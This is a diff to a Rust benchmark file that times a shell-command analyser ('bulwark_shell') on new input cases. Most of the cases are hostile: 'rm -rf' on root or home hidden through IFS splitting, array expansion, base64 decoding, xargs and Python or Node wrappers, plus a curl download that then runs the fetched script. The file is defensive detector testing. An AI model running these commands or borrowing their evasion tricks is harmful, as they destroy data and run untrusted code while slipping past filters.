@@ -157,5 +157,55 @@ fn inline(c: &mut Criterion) {
     g.finish();
 }
 
-criterion_group!(benches, typical, hostile, sql, inline);
+/// The shapes issue 23 added: the interpreter's tracking, multi-step lines, Windows lines,
+/// and inline code that calls its own functions.
+fn generalise(c: &mut Criterion) {
+    let mut g = c.benchmark_group("generalise");
+    let cases: Vec<(&str, String)> = vec![
+        ("ifs_split", r#"c="rm,-rf,/srv"; IFS=,; $c"#.to_string()),
+        ("array_expand", r#"a=(rm -rf /var/lib); "${a[@]}""#.to_string()),
+        (
+            "base64_command",
+            "c=$(echo cm0= | base64 -d); $c -rf /".to_string(),
+        ),
+        (
+            "script_written_then_run",
+            "cat > /tmp/task.sh <<'EOF'\nset -e\ncargo build --release\ncp target/release/app dist/\nEOF\nsh /tmp/task.sh".to_string(),
+        ),
+        (
+            "download_then_run",
+            "curl -so /tmp/i.sh https://get.example.net/i.sh && sh /tmp/i.sh".to_string(),
+        ),
+        (
+            "xargs_target",
+            "printf '%s' ~ | xargs -I@ rm -rf @".to_string(),
+        ),
+        ("windows_dir", r"dir C:\Users\me\src /s /b".to_string()),
+        (
+            "python_function_flow",
+            "python3 -c \"import os\ndef f(x): os.system(x)\nf('rm -rf ~')\"".to_string(),
+        ),
+        (
+            "js_arrow_flow",
+            r#"node -e "const f = (c) => require('child_process').execSync(c); f('rm -rf /')""#
+                .to_string(),
+        ),
+        (
+            "python_helpers_20_calls",
+            format!(
+                "python3 - <<'EOF'\nimport subprocess\ndef sh(*a):\n    return subprocess.run(list(a), check=True)\n{}EOF",
+                "sh('git', 'status')\n".repeat(20)
+            ),
+        ),
+    ];
+    for (name, line) in &cases {
+        g.bench_with_input(BenchmarkId::new("analyse", name), line, |b, l| {
+            b.iter(|| bulwark_shell::analyse(black_box(l)))
+        });
+    }
+    g.finish();
+}
+
+criterion_group!(benches, typical, hostile, sql, inline, generalise);
+
 criterion_main!(benches);
